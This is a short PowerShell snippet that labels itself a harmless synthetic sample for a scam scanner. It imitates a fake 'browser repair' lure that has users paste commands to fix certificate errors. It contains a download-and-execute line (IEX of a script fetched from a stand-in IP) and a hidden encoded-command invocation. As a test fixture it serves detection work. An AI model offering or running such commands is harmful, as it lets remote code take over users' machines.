# Browser repair / update fix (scamscan synthetic sample - harmless text, not malware)
# Paste into PowerShell to fix "your connection is not private" errors.
$p = 'http://198.51.100.23/update/fix.ps1'
IEX (New-Object Net.WebClient).DownloadString($p)
powershell -w hidden -enc U2NhbXNjYW4gc3ludGhldGljIHNhbXBsZTogbm90IGEgcmVhbCBjb21tYW5kLg==
